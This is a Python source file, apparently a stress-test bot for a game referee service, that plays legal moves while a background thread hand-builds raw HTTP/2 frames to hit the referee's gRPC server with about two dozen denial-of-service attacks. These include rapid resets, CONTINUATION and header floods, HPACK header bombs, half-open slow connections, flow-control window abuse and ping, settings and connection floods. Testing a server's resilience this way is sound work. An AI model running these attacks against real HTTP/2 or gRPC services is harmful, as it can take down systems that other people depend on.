"""Plays its first legal moves over one stream, and abuses HTTP/2 at the same socket over many others, with no library.

Makes the attacks told, or all, again and again until the game is over: abuser.py [ATTACK...].
"""

import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress

from mtref_sdk import Bot, Decision, Move, run

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0,
    1,
    2,
    3,
    4,
    6,
    7,
    8,
    9,
)
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"", length: int | None = None) -> bytes:
    size = len(payload) if length is None else length
    return struct.pack(">I", size)[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(name: int, value: bytes) -> bytes:
    """A header with a name of HPACK's static table, not indexed and not compressed."""
    first = bytes([name]) if name < 15 else bytes([15, name - 15])
    return first + bytes([len(value)]) + value


REQUEST = (
    b"\x83\x86"  # POST, http
    + text(4, b"/mtref.v1.RefereeService/Play")
    + text(1, b"x")
    + text(31, b"application/grpc")
    + b"\x00\x02te\x08trailers"
)
AUTHORIZED = REQUEST + text(23, b"Bearer " + os.environ["MTREF_TOKEN"].encode())


def connect(hello: bytes = PREFACE + frame(SETTINGS, 0, 0)) -> socket.socket:
    peer = socket.socket(socket.AF_UNIX)
    peer.settimeout(2)
    peer.connect(os.environ["MTREF_ADDRESS"].removeprefix("unix:"))
    peer.sendall(hello)
    return peer


def flood(frames: bytes, times: int) -> None:
    """Send this so often on one connection, reading nothing; an end of the connection is what is hoped for."""
    with connect() as peer, suppress(OSError):
        for _ in range(times):
            peer.sendall(frames)


KEPT: list[socket.socket] = []


def slow_handshake() -> None:
    KEPT.append(connect(PREFACE[:1]))


def silent_after_the_handshake() -> None:
    KEPT.append(connect())


def half_open_call() -> None:
    KEPT.append(connect())
    KEPT[-1].sendall(frame(HEADERS, END_HEADERS, 1, AUTHORIZED))


def rapid_resets() -> None:
    with connect() as peer, suppress(OSError):
        for stream in range(1, 8001, 2):
            cancel = struct.pack(">I", 8)
            peer.sendall(frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(RST_STREAM, 0, stream, cancel))


def many_streams() -> None:
    with connect() as peer, suppress(OSError):
        for stream in range(1, 2001, 2):
            peer.sendall(frame(HEADERS, END_HEADERS, stream, AUTHORIZED))


def endless_headers() -> None:
    more = b"\x00\x04long\x7f\x00" + b"x" * 127
    with connect() as peer, suppress(OSError):
        peer.sendall(frame(HEADERS, 0, 1, REQUEST))
        for _ in range(2000):
            peer.sendall(frame(CONTINUATION, 0, 1, more * 60))


def giant_frames() -> None:
    flood(frame(DATA, 0, 1, b"x" * 65536, length=(1 << 24) - 1), 256)


def giant_message() -> None:
    with connect() as peer, suppress(OSError):
        peer.sendall(frame(HEADERS, END_HEADERS, 1, AUTHORIZED))
        peer.sendall(frame(DATA, 0, 1, b"\x00\xff\xff\xff\xff" + b"x" * 1024))
        for _ in range(2000):
            peer.sendall(frame(DATA, 0, 1, b"x" * 16000))


def settings(*limits: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *limit) for limit in limits))


def number(kind: int, stream: int, value: int) -> bytes:
    return frame(kind, 0, stream, struct.pack(">I", value))


def message(data: bytes) -> bytes:
    return b"\0" + struct.pack(">I", len(data)) + data


def call(stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, AUTHORIZED)


HELLO = message(b"\x0a\x02\x08\x01")
"""Hello, in protocol 1."""


def resized_tables() -> None:
    """Each change of the table's size is to be told before the next headers."""
    sizes = settings(*[(1, size % 2 * 4096) for size in range(2700)])
    with connect() as peer, suppress(OSError):
        peer.sendall(sizes * 40 + call(1))
        peer.sendall(sizes * 400)


def slow_headers() -> None:
    """What takes longest to decode: Huffman's code, one list after another."""
    with connect() as peer, suppress(OSError):
        for stream in range(1, 401, 2):
            value = b"\x00" * 7000
            long = bytes([255, (len(value) - 127) % 128 + 128, (len(value) - 127) >> 7]) + value
            peer.sendall(frame(HEADERS, END_HEADERS, stream, b"\x00\x01a" + long))


def header_bomb() -> None:
    """A long header that is remembered, and then named by a byte."""
    long = b"\x7f" + bytes([(3900 - 127) % 128 + 128, (3900 - 127) >> 7]) + b"x" * 3900
    with connect() as peer, suppress(OSError):
        peer.sendall(frame(HEADERS, END_HEADERS, 1, b"\x40\x01a" + long))
        for stream in range(3, 2003, 2):
            peer.sendall(frame(HEADERS, END_HEADERS, stream, b"\xbe" * 16000))


def one_byte_at_a_time() -> None:
    """Both ways: it sends single bytes, and lets the referee send single bytes."""
    with connect() as peer, suppress(OSError):
        peer.sendall(settings((4, 0)) + call(1) + frame(DATA, 0, 1, HELLO))
        for byte in number(WINDOW_UPDATE, 1, 1) * 1000:
            peer.sendall(bytes([byte]))


def windows_to_and_fro() -> None:
    """While there is something to send, of which it takes back the room."""
    with connect() as peer, suppress(OSError):
        peer.sendall(settings((4, 1)) + call(1) + frame(DATA, 0, 1, HELLO) + call(3) + call(5) + call(7))
        for _ in range(1000):
            peer.sendall(settings(*[(4, size % 2 * 0x7FFFFFFF) for size in range(2000)]))


def reset_while_it_waits() -> None:
    with connect() as peer, suppress(OSError):
        peer.sendall(settings((4, 0)))
        for stream in range(1, 2001, 2):
            end = frame(DATA, END_STREAM, stream, HELLO)
            peer.sendall(call(stream) + end + number(RST_STREAM, stream, 8))


def hellos_that_are_none() -> None:
    with connect() as peer, suppress(OSError):
        for stream in range(1, 8001, 2):
            peer.sendall(call(stream) + frame(DATA, 0, stream, message(b"\xff")))


def tiny_messages() -> None:
    """On a call that is authorized and has said no hello."""
    with connect() as peer, suppress(OSError):
        peer.sendall(call(1))
        for _ in range(2000):
            peer.sendall(frame(DATA, 0, 1, message(b"") * 3000))


def half_a_message() -> None:
    KEPT.append(connect())
    KEPT[-1].sendall(call(1) + frame(DATA, 0, 1, message(b"x" * 60_000)[:16_000]) * 3)


def many_connects() -> None:
    for _ in range(2000):
        with suppress(OSError):
            connect().close()


ATTACKS: dict[str, Callable[[], None]] = {
    "slow_handshake": slow_handshake,
    "silent_after_the_handshake": silent_after_the_handshake,
    "half_open_call": half_open_call,
    "half_a_message": half_a_message,
    "windows_too_large": lambda: flood(call(1) + number(WINDOW_UPDATE, 1, 0x7FFFFFFF), 1),
    "reset_while_it_waits": reset_while_it_waits,
    "rapid_resets": rapid_resets,
    "many_streams": many_streams,
    "endless_headers": endless_headers,
    "empty_headers": lambda: flood(frame(HEADERS, 0, 1) + frame(CONTINUATION, 0, 1) * 20_000, 1),
    "slow_headers": slow_headers,
    "header_bomb": header_bomb,
    "resized_tables": resized_tables,
    "giant_frames": giant_frames,
    "giant_message": giant_message,
    "tiny_messages": tiny_messages,
    "hellos_that_are_none": hellos_that_are_none,
    "empty_data": lambda: flood(call(1) + frame(DATA, 0, 1) * 20_000, 1),
    "one_byte_at_a_time": one_byte_at_a_time,
    "windows_to_and_fro": windows_to_and_fro,
    "pings": lambda: flood(frame(PING, 0, 0, b"12345678"), 20_000),
    "settings": lambda: flood(frame(SETTINGS, 0, 0), 20_000),
    "priority": lambda: flood(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"), 20_000),
    "goodbyes": lambda: flood(frame(GOAWAY, 0, 0, bytes(8)), 20_000),
    "junk": lambda: flood(b"GET / HTTP/1.1\r\n\r\n" + b"\xff" * 4096, 200),
    "many_connects": many_connects,
}


class Abuser(Bot):
    def __init__(self) -> None:
        self.decisions = 0

    def choose(self, decision: Decision) -> Move:
        self.decisions += 1
        if self.decisions == 1:  # before the deal there would be no game to spoil
            threading.Thread(target=attack, daemon=True).start()
        if self.decisions == 8:
            done.wait()
        return decision.legal_moves[0]


def attack() -> None:
    while True:
        for name in sys.argv[1:] or ATTACKS:
            with suppress(OSError):
                ATTACKS[name]()
        done.set()
        for peer in KEPT:
            peer.close()
        KEPT.clear()
        time.sleep(0.1)


done = threading.Event()

if __name__ == "__main__":
    run(Abuser())
